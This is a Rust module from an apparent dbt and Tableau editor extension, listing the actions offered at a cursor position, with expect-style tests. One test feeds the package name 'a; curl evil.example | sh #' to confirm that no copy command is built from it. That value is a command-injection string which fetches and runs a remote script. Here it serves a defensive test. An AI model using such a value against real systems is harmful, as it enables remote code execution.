//! What can be done at a place in a file, as titles and plain data.
//!
//! One file for each action below; this one asks them all. Edits are made when
//! an action is chosen ([`crate::Analysis::carry_out`]), since they need the text of
//! files that are not at hand before. What mends a diagnostic comes with it
//! ([`crate::Fix`]).

mod accept_names;
mod add_dependencies;
mod copy_build;
mod open_dashboards;
mod open_page;
mod update_exposure;
mod write_all;
mod write_exposure;
mod write_missing;

use std::ops::Range;

use lineage::NodeIx;

use crate::analysis::{Analysis, File};
use crate::exposures::entry;
use crate::intent::Intent;
use crate::locate;
use crate::text::plain_message;

/// Something a user can choose to do.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Action {
    /// What it says.
    pub title: String,
    /// What it does.
    pub kind: ActionKind,
    /// Why it cannot be done now, when it cannot.
    pub disabled: Option<String>,
}

/// What an action does.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ActionKind {
    /// Changes files.
    Edit(Intent),
    /// Lists a node's dashboards, to open one.
    ListDashboards(NodeIx),
    /// Opens a page of Tableau's.
    OpenPage(String),
    /// Puts a text where the user can paste it from.
    Copy(String),
    /// Writes the proposed name rules into the settings.
    AcceptNames(AcceptFor),
}

/// Whose settings are to hold a rule for names.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AcceptFor {
    /// The team's, `exposure-lens.yml` beside `dbt_project.yml`.
    Team,
    /// The user's own.
    Me,
}

impl Action {
    /// Titles hold names from the repository and from Tableau.
    fn new(title: impl AsRef<str>, kind: ActionKind) -> Action {
        Action {
            title: plain_message(title.as_ref()),
            kind,
            disabled: None,
        }
    }
}

pub(crate) fn at(analysis: &Analysis, file: File<'_>, range: Range<usize>) -> Vec<Action> {
    let mut actions = Vec::new();
    if let Some(found) = entry::at(analysis, file, range.start) {
        actions.extend(copy_build::for_exposure(analysis, file, &found.entry));
        if let Some(exposure) = found.exposure.filter(|_| analysis.has_answers()) {
            actions.extend(open_page::for_exposure(analysis, exposure));
            actions.extend(add_dependencies::for_exposure(analysis, exposure));
            actions.extend(update_exposure::for_exposure(analysis, exposure));
        }
    }
    if !analysis.has_answers() {
        return actions;
    }
    actions.extend(accept_names::for_file(analysis, file));
    actions.extend(write_missing::for_line(analysis, file, range.start));
    if let Some(found) = locate::on_line(analysis, file, range.start) {
        actions.extend(write_exposure::for_node(analysis, found.node));
        actions.extend(write_all::for_node(analysis, found.node));
        actions.extend(add_dependencies::for_node(analysis, found.node));
        actions.extend(open_dashboards::for_node(analysis, found.node));
    }
    actions
}

#[cfg(test)]
mod tests {
    use expect_test::{Expect, expect};
    use fixture::Fixture;

    use crate::analysis::File;
    use crate::testing::{SHOP, analysis, file};

    /// The actions at `$0`, with the reason of those that cannot be done.
    #[track_caller]
    fn check(project: &str, file_with_cursor: &str, expect: Expect) {
        let fixture = Fixture::parse(&format!("{project}{file_with_cursor}"));
        let analysis = analysis(&fixture);
        let (path, offset) = fixture.cursor();
        let actions = analysis.actions(file(&fixture, path), offset..offset);
        let lines = actions.into_iter().map(|it| match it.disabled {
            Some(reason) => format!("{} (not now: {reason})", it.title),
            None => it.title,
        });
        expect.assert_eq(&lines.collect::<Vec<_>>().join("\n"));
    }

    #[test]
    fn a_mart_offers_what_is_missing_and_the_list() {
        check(
            SHOP,
            "#- models/fct_orders.sql\n$0select 1\n",
            expect![[r#"
                Write exposure `weekly_ops` for Weekly Ops
                Write 1 exposure and add fct_orders to 1
                Add fct_orders to exposure `sales`
                List Tableau dashboards that use fct_orders"#]],
        );
    }

    #[test]
    fn a_staging_model_offers_only_the_list() {
        check(
            SHOP,
            "#- models/stg_orders.sql\n$0select 1\n",
            expect!["List Tableau dashboards that use stg_orders"],
        );
    }

    #[test]
    fn a_name_in_a_properties_file_offers_on_its_whole_line() {
        check(
            SHOP,
            "#- models/marts.yml\nmodels:\n  $0- name: fct_orders\n    columns: []\n",
            expect![[r#"
                Write exposure `weekly_ops` for Weekly Ops
                Write 1 exposure and add fct_orders to 1
                Add fct_orders to exposure `sales`
                List Tableau dashboards that use fct_orders"#]],
        );
        check(
            SHOP,
            "#- models/marts.yml\nmodels:\n  - name: fct_orders\n    $0columns: []\n",
            expect![""],
        );
    }

    #[test]
    fn nothing_is_offered_where_nothing_reads() {
        check(SHOP, "#- models/dim_vendors.sql\n$0select 1\n", expect![""]);
        check(
            SHOP,
            "#- models/fct_orders.sql\nselect 1\n$0\n",
            expect![""],
        );
    }

    #[test]
    fn a_private_node_explains_instead() {
        check(
            "#- nodes\nmodel.shop.a DB.S.a path=models/a.sql access=private\n#- tableau\nworkbook W\ndatasource D snowflake\n[DB].[S].[A]\n",
            "#- models/a.sql\n$0select 1\n",
            expect![[r#"
                Write exposure for W (not now: `a` has `access: private`, and dbt Core 1.11 refuses an exposure on it)
                List Tableau dashboards that use a"#]],
        );
    }

    #[test]
    fn all_that_lack_a_node_are_counted_however_many_are_offered_by_themselves() {
        let many = 1..=12;
        let workbooks = many.clone().map(|n| {
            format!("workbook W{n} file=w{n}.twb\ndatasource D snowflake\n[DB].[S].[A]\n")
        });
        let workbooks: String = workbooks.collect();
        let exposures: String = many
            .map(|n| format!("w{n} tableau.file=w{n}.twb\n"))
            .collect();
        let project = format!(
            "#- nodes\nmodel.shop.a DB.S.a path=models/a.sql\n#- exposures\n{exposures}#- tableau\n{workbooks}"
        );
        let fixture = Fixture::parse(&format!("{project}#- models/a.sql\n$0select 1\n"));
        let analysis = analysis(&fixture);
        let (path, offset) = fixture.cursor();
        let actions = analysis.actions(file(&fixture, path), offset..offset);
        let titles: Vec<&str> = actions.iter().map(|it| it.title.as_str()).collect();
        assert!(titles.contains(&"Add a to 12 exposures"), "{titles:?}");
    }

    #[test]
    fn no_package_smuggles_a_command_into_what_is_copied() {
        let fixture = Fixture::parse("#- nodes\n#- models/x.yml\nexposures:\n  - $0name: sales\n");
        let analysis = analysis(&fixture);
        let (path, offset) = fixture.cursor();
        let titles = |package| {
            let file = File {
                package,
                ..file(&fixture, path)
            };
            let actions = analysis.actions(file, offset..offset);
            let titles = actions.into_iter().map(|it| it.title);
            titles.collect::<Vec<_>>().join("\n")
        };
        expect!["Copy `dbt build --select +exposure:crm.sales`"].assert_eq(&titles("crm"));
        expect![""].assert_eq(&titles("a; curl evil.example | sh #"));
    }

    #[test]
    fn the_start_of_an_exposures_line_is_the_exposures() {
        check(
            SHOP,
            "#- models/x.yml\nexposures:\n$0  - name: a\n  - name: b\n",
            expect!["Copy `dbt build --select +exposure:a`"],
        );
        check(
            SHOP,
            "#- models/x.yml\nexposures:\n  - name: a\n$0  - name: b\n",
            expect!["Copy `dbt build --select +exposure:b`"],
        );
        check(
            SHOP,
            "#- models/x.yml\n$0exposures:\n  - name: a\n",
            expect!["Write 2 missing exposures"],
        );
    }

    #[test]
    fn the_list_of_exposures_offers_all_that_are_missing() {
        let key = "#- models/x.yml\nversion: 2\n$0exposures:\n  - name: a\n";
        check(SHOP, key, expect!["Write 2 missing exposures"]);
        let private = "#- nodes\nmodel.shop.a DB.S.a access=private\n#- tableau\nworkbook W\ndatasource D snowflake\n[DB].[S].[A]\n";
        check(private, key, expect![[""]]);
        check(SHOP, "#- models/x.sql\n$0exposures:\n", expect![[""]]);
    }

    #[test]
    fn an_equal_label_is_a_hint() {
        check(
            "#- nodes\nmodel.shop.a DB.S.a path=models/a.sql\n#- exposures\nw_board label=\"W\"\n#- tableau\nworkbook W\ndatasource D snowflake\n[DB].[S].[A]\n",
            "#- models/a.sql\n$0select 1\n",
            expect![[r#"
                Write exposure `w` for W (`w_board` has the same label)
                List Tableau dashboards that use a"#]],
        );
    }

    #[test]
    fn a_proposed_rule_can_be_accepted_anywhere_in_the_projects_own_files() {
        let project = |more: &str| {
            format!(
                "#- nodes\nmodel.shop.a DEV.dbt_me.a path=models/a.sql\n#- proposal\n\
                 rule schema dbt_* -> MARTS, database dev -> PROD\n{more}counts 1 0 0\n\
                 #- tableau\nworkbook W\ndatasource D snowflake\n[PROD].[MARTS].[A]\n"
            )
        };
        let head = "#- models/a.sql\n$0select 1\n";
        check(
            &project(""),
            head,
            expect![[r#"
            Accept the name rule schema dbt_* → MARTS, database dev → PROD for the team (exposure-lens.yml)
            Accept the name rule schema dbt_* → MARTS, database dev → PROD for me
            Write exposure `w` for W
            List Tableau dashboards that use a"#]],
        );
        let body = "#- models/a.sql\nselect 1\n$0\n";
        check(
            &project("rule schema raw -> RAW\n"),
            body,
            expect![[r#"
            Accept 2 name rules (schema dbt_* → MARTS, database dev → PROD, +1) for the team (exposure-lens.yml)
            Accept 2 name rules (schema dbt_* → MARTS, database dev → PROD, +1) for me"#]],
        );
    }

    #[test]
    fn a_rule_is_accepted_in_no_package_and_not_without_content() {
        let text = "#- nodes\n#- proposal\nrule schema a -> b\ncounts 1 0 0\n#- models/a.sql\n$0select 1\n";
        let without_content = Fixture::parse(text);
        let with_content = Fixture::parse(&format!("{text}#- tableau\nworkbook W\n"));
        let actions = |fixture: &Fixture, package: &str| {
            let analysis = analysis(fixture);
            let (path, offset) = fixture.cursor();
            let file = File {
                package,
                ..file(fixture, path)
            };
            analysis.actions(file, offset..offset).len()
        };
        assert_eq!(actions(&without_content, "shop"), 0);
        assert_eq!(actions(&with_content, "shop"), 2);
        assert_eq!(actions(&with_content, "dbt_utils"), 0);
    }
}
